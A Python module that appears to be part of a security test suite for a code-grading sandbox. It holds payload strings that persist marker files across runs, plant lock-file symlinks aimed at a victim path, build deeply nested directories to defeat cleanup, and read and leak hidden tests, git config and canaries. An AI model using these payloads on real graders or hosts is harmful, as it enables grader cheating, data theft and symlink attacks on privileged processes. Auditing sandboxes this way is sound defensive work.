"""Leaks across tests, across submissions and into root's hands (issue 10)."""
from .attacks import _ROOTS, _fn

PERSIST_PLANT = '''
import os as _os, ctypes as _ctypes
_places = ["/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/dev/mqueue"]
for _top in ("/tmp", "/var/tmp"):  # world-writable folders owned by someone else
    try:
        _places += [e.path for e in _os.scandir(_top) if e.is_dir(follow_symlinks=False)
                    and e.stat(follow_symlinks=False).st_mode & 0o002]
    except OSError:
        pass
for _folder in _places:
    for _path in (_os.path.join(_folder, MARKER), _os.path.join(_folder, MARKER + "-dir", "a", MARKER)):
        try:
            _os.makedirs(_os.path.dirname(_path), exist_ok=True)
            with open(_path, "w") as _f:
                _f.write("persisted")
        except OSError:
            pass
_libc = _ctypes.CDLL(None, use_errno=True)
_libc.shmget(SHM_KEY, 4096, 0o1000 | 0o666)
'''

PERSIST_LOOK = '''
import os as _os, ctypes as _ctypes
_found = []
for _top in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/dev/mqueue"):
    for _root, _dirs, _files in _os.walk(_top):
        _found += [_os.path.join(_root, _n) for _n in _dirs + _files if MARKER in _n]
if _ctypes.CDLL(None, use_errno=True).shmget(SHM_KEY, 0, 0) >= 0:
    _found.append("SysV shm")
if _found:  # something from an earlier test survived: this answer is wrong on purpose
    return nll_nats * 0 + 12345.0
'''

LOCK_SYMLINKS = '''
import os as _os
for _folder in ("/run/lock", "/tmp", "/var/tmp", "/run/ps1-grader", "/var/lib/ps1-grader"):
    for _slot in range(33):
        _name = "ps1sandbox" + ("" if _slot == 0 else str(_slot)) + ".lock"
        try:
            _os.symlink(VICTIM_PATH, _os.path.join(_folder, _name))
        except OSError:
            pass
'''

DEEP_TREE = '''
import os as _os
for _base in (_os.getcwd(), "/tmp", "/dev/shm"):
    _path = _os.path.join(_base, MARKER)
    try:
        _os.makedirs(_path, exist_ok=True)
        _fd = _os.open(_path, _os.O_RDONLY)
        for _ in range(3000):  # deeper than any recursive delete survives
            _os.mkdir("d", dir_fd=_fd)
            _next = _os.open("d", _os.O_RDONLY, dir_fd=_fd)
            _os.close(_fd)
            _fd = _next
        _os.close(_fd)
    except OSError:
        pass
'''

READ_CHECKOUT = _fn(_ROOTS + '''
_found = []
for _root in _roots():
    for _pattern in (".ps1-audit-canary", ".git/config", ".git/HEAD", "dist/*",
                     "grader/trusted/manifest.toml", "tests_hidden/*.py"):
        for _path in _glob.glob(_os.path.join(_root, _pattern)):
            try:
                with open(_path, "rb") as _f:
                    _data = _f.read(200000).decode(errors="replace")
                if "hidden" in _pattern or "canary" in _pattern or "tests_hidden" in _data or "CANARY" in _data:
                    _found.append(_path + ": " + _data)
            except OSError:
                pass
_leak(_found)
''')
